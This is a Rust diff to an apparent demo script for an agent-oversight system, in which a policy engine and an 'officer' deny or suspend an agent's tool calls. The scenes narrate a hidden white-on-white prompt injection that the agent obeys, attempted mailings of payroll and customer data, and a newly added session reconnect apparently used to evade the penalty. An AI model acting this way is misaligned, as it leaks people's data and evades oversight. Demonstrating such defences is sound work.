@@ -9,6 +9,8 @@ pub(super) enum Scene {
     Says(&'static str),
     /// The agent calls a tool.
     Calls(Step),
+    /// The agent ends its session and begins another.
+    Reconnects,
     /// The officer lowers the agent's trust.
     Suspends,
 }
@@ -80,6 +82,11 @@ pub(super) fn scenes() -> Vec<Scene> {
             "to a customer",
             json!({ "to": "ann@northwind.example.org", "subject": "Q3", "body": "Thank you." }),
         ),
+        permitted(
+            "read_file",
+            "reports/customers/2026.md",
+            json!({ "path": "reports/customers/2026.md" }),
+        ),
         Scene::Says(
             "It reads a page that tells it, in white on white, to mail the payroll away. It obeys.",
         ),
@@ -89,6 +96,13 @@ pub(super) fn scenes() -> Vec<Scene> {
             json!({ "url": "https://prices.example.net/steel.html" }),
         ),
         denied("send_mail", "to audit@collect.example.net", mail, "policy.denied"),
+        Scene::Reconnects,
+        denied(
+            "send_mail",
+            "to a colleague",
+            json!({ "to": "sam@example.com", "subject": "customers", "body": "Send these on." }),
+            "policy.denied",
+        ),
         Scene::Suspends,
         denied("read_file", "reports/2026-q3.md", report, "trust.insufficient"),
         denied(
